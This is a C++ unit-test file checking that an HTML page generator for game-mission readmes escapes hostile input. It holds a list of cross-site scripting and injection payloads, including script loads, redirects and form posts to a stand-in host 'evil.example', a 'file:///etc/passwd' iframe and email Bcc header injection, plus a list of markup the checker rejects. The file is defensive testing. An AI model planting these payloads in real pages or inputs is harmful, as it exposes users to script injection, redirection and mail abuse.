#include "readme/mdlHTML_stuff.h"
#include "support/Page_Checker.h"
#include "support/World.h"

#include <gtest/gtest.h>

using namespace vantrosk;

namespace {

/// What somebody may put into any place that a page shows.
const QStringList &Attacks() {
    static const QStringList attacks{
        "<script>alert(1)</script>",
        "</td></table></div></body><script src=http://evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "'><svg onload=alert(1)>",
        "' onmouseover='alert(1)",
        "\" onmouseover=\"alert(1)",
        "javascript:alert(1)",
        "http://x/'onmouseover='alert(1)",
        "http://x/\"><script>alert(1)</script>",
        "javascript:alert(1)//http://x.org",
        "a@b.org'onclick='alert(1)",
        "<ann@x.org><script>",
        "<iframe src='file:///etc/passwd'></iframe>",
        "<form action='http://evil.example'><input type=submit></form>",
        "<style>body{background:url(http://evil.example/x)}</style>",
        "</style><script>alert(1)</script>",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>",
        "<base href='http://evil.example/'>",
        "<object data=x></object><embed src=x><link rel=stylesheet href=http://evil.example>",
        "<!-- <script>-->",
        "<![CDATA[<script>]]>",
        "&lt;script&gt;&#60;b&#62;&period;&sol;",
        "[VKTITLE][VKIMAGE]' onerror='alert(1)[/VKIMAGE][/VKTITLE]",
        "[VKIMAGE]..&sol;..&sol;x.gif[/VKIMAGE]",
        "[VK<b>NL][VKTITLE<script>]",
        QString::fromLatin1("a\0<\0s\0c\0r\0i\0p\0t>", 16) + QChar(0x1B) + QChar(0x7F),
        "x\t<b\tonclick=a>",
        "%0D%0ABcc: x@evil.example",
        "a&bcc=x@evil.example@x.org",
    };
    return attacks;
}

struct Hostile_Pages : testing::Test {
    World world;
    Program &program = world.program();

    void expect_harmless(const QString &html, const QString &attack) {
        EXPECT_EQ(Wrong_in_page(html).toStdString(), "") << attack.toStdString();
    }
    void try_both(const QString &attack, const Page_Facts &facts) {
        expect_harmless(Page_of_text(program,
                                     "Title : " + attack + "\nAuthor : " + attack + "\nGame : " + attack +
                                         "\nContact : " + attack + "\nEmail: x@" + attack +
                                         "\nHomepage : " + attack + "\nHomepage: http://" + attack +
                                         "\nKnown Bugs: " + attack + "\nuse " + attack + " darkloader ",
                                     facts),
                        attack);
        expect_harmless(Page_of_VKML(program,
                                     "[VKFMSTRUCTURE]Mission Title : " + attack +
                                         "[/VKFMSTRUCTURE]\n[VKFMSTRUCTURE]Game "
                                         ": " +
                                         attack + "[/VKFMSTRUCTURE]\n[VKAUTHOR]Author : " + attack +
                                         "\n[VKAUTHOR]Contact Info : a@" + attack + "\nHomepage : http://x" +
                                         attack + "\n[VKIMAGE]" + attack + "[/VKIMAGE]\n" + attack,
                                     facts),
                        attack);
    }
};

} // namespace

TEST_F(Hostile_Pages, From_the_readme) {
    for (const QString &attack : Attacks())
        try_both(attack, {});
}

TEST_F(Hostile_Pages, From_the_database_and_the_list) {
    for (const QString &attack : Attacks()) {
        Page_Facts facts;
        for (const QString &url : {attack, "http://" + attack}) {
            facts.walkthrough_url = facts.loot_list_url = facts.info_url = facts.forum_url = url;
            facts.row_name = facts.row_score = attack;
            facts.languages.fill(attack);
            facts.row_selected = true;
            facts.title_image = attack;
            program.ini.LANGUAGE = attack;
            try_both("Ann", facts);
            expect_harmless(Page_of_text(program, "Author: Ann\nContact: a@x.org\n", facts), attack);
        }
    }
}

TEST_F(Hostile_Pages, From_settings_glossary_and_templates) {
    for (const QString &attack : Attacks()) {
        program.tweaks.TITLEFONT.name = program.tweaks.OTHERTEXTFONT.name = attack;
        program.tweaks.OTHERTEXTFONT.colour = program.tweaks.BACKGROUNDCOLOUR = attack;
        program.tweaks.VK_SCHEME = attack;
        program.fm.background_image = attack;
        program.glossary = {{attack, attack}, {"use", attack}};
        QString stored = attack;
        program.email_templates = {{"Email_Low", stored.remove('&').remove('?').remove('#')}};
        try_both(" use it use it.", {});
    }
}

TEST_F(Hostile_Pages, The_words_of_an_attack_still_show) {
    const QString html = Page_of_text(program, "Title : <script>x</script>\n<b>'bold'</b>\n", {});
    EXPECT_TRUE(Seen_text(html).contains("<script>x</script>\r\n"));
    EXPECT_TRUE(Seen_text(html).contains("<b>'bold'</b>\n"));
}

TEST(Page_Checker, Refuses_what_no_page_may_hold) {
    const QString head = "<html>\r\n<head><style>\r\n</style></head><body>", end = "</body>\r\n</html>";
    EXPECT_EQ(Wrong_in_page(head + "<a href='http://x'>y</a><br>" + end), "");
    for (const char *bad :
         {"<script>", "<a href='javascript:x'>", "<a href=http://x>", "<a href=\"http://x\">", "<b>", "x > y",
          "<", "<img src='http://x/y.gif'>", "<img src='../x.gif'>", "<img src='x.gif' onerror='y'>",
          "<br onclick='x'>", "<div style='background:url(http://x)'>", "<span style='@import x'>",
          "<!-- x -->", "<body>", "</a", "<a href='mailto:a?subject=b&body=c&bcc=d'>"})
        EXPECT_NE(Wrong_in_page(head + bad + end), "") << bad;
}
